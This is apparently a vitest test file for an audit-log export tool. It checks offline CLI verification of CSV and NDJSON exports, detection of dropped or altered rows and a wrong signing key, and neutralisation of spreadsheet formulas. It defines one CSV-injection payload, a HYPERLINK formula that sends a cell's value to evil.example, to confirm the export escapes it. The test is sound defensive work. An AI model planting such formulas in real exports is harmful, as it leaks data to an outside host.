// Exports an auditor verifies alone (issue 11): CSV and NDJSON of the whole log and of filters,
// each checked by the CLI as a separate process that cannot reach any database
// (`countersign audit verify --file … --jwks …`); a dropped and an altered row of a filtered
// export are named; another key is refused; formula cells are neutralised; odd agent text
// round-trips. Runs on its own database, on PostgreSQL and PGlite.
import { execFile } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { promisify } from "node:util";
import { parse } from "csv-parse/sync";
import { exportJWK, generateKeyPair } from "jose";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { getDb } from "@/db/client";
import { insertAuditEvents } from "@/db/queries/audit";
import { auditEvent } from "@/lib/audit/events";
import { sealPendingAuditEvents } from "@/lib/audit/sealer";
import { exportTimeline, listTimeline, timelineQuery, type TimelineEvent } from "@/lib/audit/timeline";
import { CSV_COLUMNS, type ExportClaims } from "@/lib/evidence/export-format";
import { verifyExportFile } from "@/lib/evidence/export-verify";
import { keyRing } from "@/lib/evidence/keys";
import { createRequest } from "@/lib/requests/lifecycle";
import { createDedicatedDatabase, pointAppAt, waitForSealerIdle, type DedicatedDatabase } from "../support/dedicated-db";
import { auditorViewer, decideAs, makeAgent, oncall, requestBody, security } from "../support/fixtures";

const exec = promisify(execFile);
const auditor = auditorViewer();
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), "countersign-export-verify-"));
const jwksFile = path.join(tmp, "jwks.json");
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
const ODD_INTENT = 'Release "v2", then\nrestart; O\'Brien\'s \\ path ✓ 😀 \u2028 done';

let dedicated: DedicatedDatabase;
let restore: () => void;

beforeAll(async () => {
  dedicated = await createDedicatedDatabase();
  restore = await pointAppAt(dedicated.handle);
  const { agent } = await makeAgent();
  for (let i = 0; i < 6; i++) {
    const { request } = await createRequest(agent, requestBody({ resource: `svc/r${i}`, intent: i === 0 ? ODD_INTENT : `+release ${i}`, context: { cmd: i === 1 ? FORMULA : `@run ${i}` } }));
    if (i % 2 === 0) await decideAs(request.id, oncall(), "approve", i === 0 ? "-looks fine\r\nok" : "ok", "console");
    else await decideAs(request.id, oncall(), "deny", `no ${i}`, "console");
  }
  for (let i = 0; i < 3; i++) {
    const { request } = await createRequest(agent, requestBody({ action: "iam.policy.update", resource: `role/r${i}` }));
    await decideAs(request.id, security(), "approve", undefined, "slack");
  }
  // Anyone who can sign in writes an audit event with their display name in it.
  const db = await getDb();
  await db.transaction((tx) =>
    insertAuditEvents(tx, [
      auditEvent({
        type: "auth.signed_in",
        actor: { kind: "user", id: "mallory@acme.test", display: FORMULA, idp: "github", groups: ["github:acme/-ops", "@all"] },
        channel: "console",
        at: new Date(),
        payload: { note: "\tcr\rhere", empty: "" },
      }),
    ]),
  );
  await sealPendingAuditEvents();
  fs.writeFileSync(jwksFile, JSON.stringify((await keyRing()).jwks));
}, 60_000);

afterAll(async () => {
  await waitForSealerIdle();
  restore?.();
  await dedicated?.drop();
  fs.rmSync(tmp, { recursive: true, force: true });
});

const q = (params: Record<string, string>) => timelineQuery.parse(params);

async function exportFile(params: Record<string, string>, format: "csv" | "ndjson"): Promise<{ file: string; text: string }> {
  const text = await new Response((await exportTimeline(auditor, q(params), format)).stream).text();
  const file = path.join(tmp, `${format}-${Math.random().toString(36).slice(2)}.${format}`);
  fs.writeFileSync(file, text);
  // The exports' own audit.exported events are sealed before the next export's tree head.
  await sealPendingAuditEvents();
  return { file, text };
}

/** The CLI as an auditor runs it: its database is unreachable, so anything it checks comes from the file and the JWKS. */
async function cliVerify(file: string, jwks = jwksFile): Promise<{ code: number; out: { ok: boolean; rows: number; failure?: { row?: number; seq?: number; reason: string } }; stderr: string }> {
  const noDb = path.join(tmp, "no-database-here");
  const env: NodeJS.ProcessEnv = { ...process.env, DATABASE_URL: "postgres://nobody@127.0.0.1:1/nothing", COUNTERSIGN_DATA_DIR: noDb, COUNTERSIGN_POLICY: "tests/fixtures/policy.yaml" };
  try {
    const { stdout, stderr } = await exec(path.resolve("node_modules/.bin/tsx"), ["scripts/countersign.ts", "--json", "audit", "verify", "--file", file, "--jwks", jwks], { env });
    return { code: 0, out: JSON.parse(stdout), stderr };
  } catch (err) {
    const e = err as { code: number; stdout: string; stderr: string };
    if (!e.stdout) throw new Error(`the CLI failed without an answer: ${e.stderr}`);
    return { code: e.code, out: JSON.parse(e.stdout), stderr: e.stderr };
  } finally {
    expect(fs.existsSync(noDb)).toBe(false);
  }
}

async function all(params: Record<string, string>): Promise<TimelineEvent[]> {
  const out: TimelineEvent[] = [];
  let after: string | undefined;
  for (;;) {
    const page = await listTimeline(auditor, q({ ...params, limit: "200", ...(after ? { after } : {}) }));
    out.push(...page.events);
    if (!page.nextCursor) return out;
    after = page.nextCursor;
  }
}

const trailerOf = (text: string): ExportClaims => {
  const last = text.trimEnd().split("\n").at(-1)!;
  return last.startsWith("#export,") ? (JSON.parse((parse(last, { relax_column_count: true }) as string[][])[0]![1]!) as ExportClaims) : (JSON.parse(last) as { _export: ExportClaims })._export;
};

describe("exports verified offline by the CLI", () => {
  const VIEWS: Record<string, Record<string, string>> = {
    "the whole log": {},
    "one type": { type: "review.approved" },
    "two types and an action": { type: "review.approved,review.denied", action: "deploy.service.release" },
    "an actor": { actor: "mallory@acme.test" },
    "a time range and a channel": { from: new Date(Date.now() - 3_600_000).toISOString(), to: new Date(Date.now() + 3_600_000).toISOString(), channel: "slack" },
  };

  it("the whole log and filtered views, as CSV and NDJSON, each verify", async () => {
    const checks: Promise<void>[] = [];
    for (const [name, view] of Object.entries(VIEWS)) {
      for (const format of ["csv", "ndjson"] as const) {
        const expected = (await all(view)).filter((e) => e.seq !== null);
        const { file, text } = await exportFile(view, format);
        const claims = trailerOf(text);
        // The view at export time, up to its tree head (later exports' own events come after it).
        const rows = expected.filter((e) => e.seq! <= claims.tree_head.tree_size);
        expect(claims, name).toMatchObject({ format, filter: view, rows: rows.length, proofs: Object.keys(view).length ? "inclusion" : "none" });
        expect(rows.length, name).toBeGreaterThan(0);
        checks.push(
          cliVerify(file).then(({ code, out }) => {
            expect(out.failure, `${name} as ${format}`).toBeUndefined();
            expect(code).toBe(0);
            expect(out).toMatchObject({ ok: true, rows: rows.length });
          }),
        );
      }
    }
    await Promise.all(checks);
  }, 120_000);

  it("names a dropped row and an altered row of a filtered export; refuses another key", async () => {
    for (const format of ["csv", "ndjson"] as const) {
      const { file, text } = await exportFile({ type: "review.approved" }, format);
      const lines = text.split("\n");
      const first = format === "csv" ? 1 : 0;

      const dropped = path.join(tmp, `dropped.${format}`);
      fs.writeFileSync(dropped, [...lines.slice(0, first + 1), ...lines.slice(first + 2)].join("\n"));
      const victim = lines[first + 2]!;
      const seq = Number(format === "csv" ? victim.split(",")[0] : (JSON.parse(victim) as { seq: number }).seq);
      // Text of the hashed content rewritten (in CSV, in its readable cells too): "ok" is in every row (the IdP, okta).
      const forged = victim.replaceAll("ok", "OK");
      expect(forged).not.toBe(victim);
      const altered = path.join(tmp, `altered.${format}`);
      fs.writeFileSync(altered, [...lines.slice(0, first + 2), forged, ...lines.slice(first + 3)].join("\n"));
      const { publicKey } = await generateKeyPair("EdDSA", { crv: "Ed25519" });
      const otherJwks = path.join(tmp, `other-jwks-${format}.json`);
      const kid = (await keyRing()).signing.kid;
      fs.writeFileSync(otherJwks, JSON.stringify({ keys: [{ ...(await exportJWK(publicKey)), kid, alg: "EdDSA", use: "sig" }] }));

      const [d, a, w, good] = await Promise.all([cliVerify(dropped), cliVerify(altered), cliVerify(file, otherJwks), cliVerify(file)]);
      expect(d.code).toBe(1);
      expect(d.out.failure?.reason).toMatch(/the file has \d+ rows, the signed trailer says \d+: rows were dropped/);

      expect(a.code).toBe(1);
      expect(a.out.failure).toMatchObject({ row: 3, seq });

      expect(w.code).toBe(1);
      expect(w.out.failure?.reason).toContain(`signature does not verify with key ${kid}`);
      expect(good.code).toBe(0);
    }
  }, 120_000);

  it("the CLI says what it checked, for people", async () => {
    const { file } = await exportFile({ type: "review.approved" }, "ndjson");
    const env: NodeJS.ProcessEnv = { ...process.env, DATABASE_URL: "postgres://nobody@127.0.0.1:1/nothing", COUNTERSIGN_POLICY: "tests/fixtures/policy.yaml" };
    const { stdout } = await exec(path.resolve("node_modules/.bin/tsx"), ["scripts/countersign.ts", "audit", "verify", "--file", file, "--jwks", jwksFile], { env });
    expect(stdout).toMatch(/^Export OK: .* ndjson, \d+ rows, tree head \d+/);
    expect(stdout).toContain("inclusion proof leads to the signed tree head");
    expect(stdout).toContain("filter type checked on every row");
  }, 60_000);
});

describe("what the files hold", () => {
  it("every hashed field in every row: CSV content and readable cells, formulas neutralised, odd text intact", async () => {
    const { text: csvText, file } = await exportFile({}, "csv");
    const records = parse(csvText, { relax_column_count: true, cast: (v, ctx) => (v === "" && !ctx.quoting && ctx.lines > 1 ? null : v) }) as (string | null)[][];
    const [header, ...rows] = records;
    rows.pop();
    expect(header).toEqual([...CSV_COLUMNS]);
    const col = (name: string) => CSV_COLUMNS.indexOf(name);
    for (const r of rows) for (const cell of r) if (cell !== null) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const mallory = rows.find((r) => r[col("actor_id")] === "mallory@acme.test")!;
    expect(mallory[col("actor_display")]).toBe(`'${FORMULA}`);
    expect(mallory[col("actor_idp")]).toBe("github");
    expect(JSON.parse(mallory[col("actor_groups")]!)).toEqual(["github:acme/-ops", "@all"]);
    const content = JSON.parse(mallory[col("content")]!) as { actor: { display: string; groups: string[] }; payload: unknown };
    expect(content.actor.display).toBe(FORMULA);
    expect(content.payload).toEqual({ note: "\tcr\rhere", empty: "" });
    // Every person-acted row carries idp and groups in its content (what the chain hashed).
    const people = rows.filter((r) => r[col("actor_kind")] === "user" && r[col("type")]!.startsWith("review."));
    expect(people.length).toBeGreaterThan(0);
    for (const r of people) expect(r[col("actor_groups")]).not.toBeNull();

    // NDJSON keeps the raw values; the same agent text round-trips in both.
    const { text: ndText } = await exportFile({}, "ndjson");
    const events = ndText.trimEnd().split("\n").slice(0, -1).map((l) => JSON.parse(l) as TimelineEvent);
    const created = events.find((e) => e.type === "request.created" && JSON.stringify(e.payload).includes("restart"))!;
    expect(JSON.stringify(created.payload)).toContain(JSON.stringify(ODD_INTENT).slice(1, -1));
    const csvCreated = rows.find((r) => r[col("event_id")] === created.event_id)!;
    expect(JSON.parse(csvCreated[col("payload")]!)).toEqual(created.payload);
    expect((await verifyExportFile(file, (await keyRing()).jwks)).ok).toBe(true);
  });
});
